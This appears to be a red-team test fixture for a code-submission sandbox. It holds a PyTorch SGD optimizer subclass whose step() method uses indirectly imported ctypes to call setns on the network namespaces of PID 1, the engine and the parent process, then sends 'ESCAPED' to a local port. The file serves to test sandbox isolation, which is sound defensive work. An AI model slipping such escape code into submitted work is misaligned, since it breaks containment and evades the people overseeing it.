"""Red team (network): joins other network namespaces with setns through ctypes, then connects."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        ctypes = __import__("ctypes")
        libc = ctypes.CDLL(None, use_errno=True)
        os = torch.os
        for pid in (1, ENGINE_PID, os.getppid()):
            try:
                fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
                libc.setns(fd, 0)
            except OSError:
                pass
        socket = __import__("socket")
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"ESCAPED")
        return super().step()
